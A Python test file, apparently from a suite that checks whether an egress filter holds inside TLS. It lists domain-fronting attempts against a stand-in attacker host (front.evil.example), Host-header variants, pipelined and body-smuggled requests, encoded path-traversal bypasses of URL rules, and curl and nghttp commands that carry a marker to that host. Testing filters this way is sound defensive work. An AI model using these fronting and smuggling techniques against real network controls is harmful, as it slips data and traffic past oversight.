"""Classes 3 and 4 inside TLS: fronting, and one connection with two meanings.

The world's web server is a front: for two names of the attacker's it passes requests on to him, as a
content network does. Its certificate covers front.evil.example and does not cover hidden.evil.example."""

from rig.attacks import Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER, WWW

DNS = f"{RESOLVER}:53/udp\n"
HOST = f"{DNS}www.allowed.example\n"
INSECURE = f"{DNS}www.allowed.example insecure\n"
URLS = f"{DNS}* https://www.allowed.example/*\n"
WILDCARD = f"{DNS}*.allowed.example\n"
POLICIES = {"a host rule": HOST, "insecure": INSECURE, "URL rules": URLS, "a wildcard": WILDCARD}

# The attacker's own name is allowed for one thing.
NARROW = f"{DNS}GET https://front.evil.example/ok/*\n"

INSIDE = f"""
def secure(name="www.allowed.example", protocols=None, to=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    if protocols: context.set_alpn_protocols(protocols)
    s = socket.create_connection((to or socket.gethostbyname(name), 443))
    return context.wrap_socket(s, server_hostname=name)
def inside(*pieces, **options):
    s = secure(**options)
    for i, piece in enumerate(pieces):
        if i: time.sleep(0.5)
        s.sendall(piece.replace("\\n", "\\r\\n").encode("latin-1"))
    drain(s)
WWW = "{WWW}"
FRONT = "GET /" + MARKER + " HTTP/1.1\\nHost: front.evil.example\\n\\n"
HIDDEN = FRONT.replace("front", "hidden")
HONEST = "GET / HTTP/1.1\\nHost: www.allowed.example\\n\\n"
"""


def inside(label, program, policy=HOST, **more):
    more.setdefault("silent", False)
    return Attack(label, INSIDE + program, policy=policy, **more)


def host(label, value, **more):
    return inside(f"Host: {label}",
                  f'inside("GET /" + MARKER + " HTTP/1.1\\nHost: {value}\\n\\n")', **more)


def target(label, path, method="GET", **more):
    request = f'"{method} {path} HTTP/1.1\\nHost: front.evil.example\\n\\n".replace("@", MARKER)'
    return inside(f"target: {label}", f'inside({request}, name="front.evil.example")', policy=NARROW,
                  **more)


OK = '"GET /ok/a HTTP/1.1\\nHost: front.evil.example\\n"'
BAD = '"POST /" + MARKER + " HTTP/1.1\\nHost: front.evil.example\\nContent-Length: 0\\n\\n"'


def narrow(label, text, **more):
    return inside(label, f'inside({text}, name="front.evil.example")', policy=NARROW, **more)


ATTACKS = [
    *[inside(f"fronting, {label}", "inside(FRONT)", policy) for label, policy in POLICIES.items()],
    *[inside(f"fronting for a name the certificate lacks, {label}", "inside(HIDDEN)", policy)
      for label, policy in POLICIES.items()],
    inside("fronting, HTTP/1.1 agreed on", 'inside(FRONT, protocols=["http/1.1"])'),
    inside("fronting behind an honest request", "inside(HONEST + FRONT)"),
    inside("fronting behind many", "inside(HONEST * 20 + FRONT)"),
    inside("fronting behind an honest one, later", "inside(HONEST, FRONT)"),
    inside("fronting in a refused request's body",
           'inside("POST /x HTTP/1.1\\nHost: hidden.evil.example\\nContent-Length: 4\\n\\nabcd" + FRONT)'),
    inside("fronting after half a word", 'inside("GE", FRONT[2:])'),
    inside("fronting after an empty line", 'inside("\\n" + FRONT)'),
    inside("fronting, the name in the target",
           'inside("GET http://front.evil.example/" + MARKER + " HTTP/1.1\\nHost: www.allowed.example\\n\\n")'),
    inside("fronting, https in the target",
           'inside("GET https://front.evil.example/" + MARKER + " HTTP/1.1\\nHost: front.evil.example\\n\\n")'),
    inside("fronting, HTTP/1.0", 'inside(FRONT.replace("1.1", "1.0"))'),
    host("in upper case", "FRONT.EVIL.EXAMPLE"),
    host("with a final dot", "front.evil.example."),
    host("with a port", "front.evil.example:443"),
    inside("the attacker's name in the hello", 'inside(FRONT, name="front.evil.example")'),
    *[Attack(f"fronting by :authority, {name}, {label}",
             f"curl -sSk -m 4 --http2 -H 'Host: {name}' https://www.allowed.example/$MARKER",
             shell=True, policy=policy, silent=False)
      for name in ("front.evil.example", "hidden.evil.example")
      for label, policy in POLICIES.items()],
    Attack("fronting in one of many streams",
           "nghttp -n -H':authority: front.evil.example' https://www.allowed.example/$MARKER"
           " https://www.allowed.example/ https://www.allowed.example/$MARKER", shell=True,
           policy=HOST, silent=False),
    target("another path", "/@"),
    target("another method", "/ok/@", method="POST"),
    target("dot segments", "/ok/../@"),
    target("dot segments, encoded", "/ok/%2e%2e/@"),
    target("encoded slash", "/ok/..%2f@"),
    target("encoded backslash", "/ok/..%5c@"),
    target("a prefix that only looks alike", "/okay/@"),
    narrow("pipelined behind an allowed one", f'{OK} + "\\n" + {BAD}'),
    narrow("in the body of an allowed one", f'{OK} + "Content-Length: 0\\n\\n" + {BAD}'),
]


@expand
class InsideTls(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
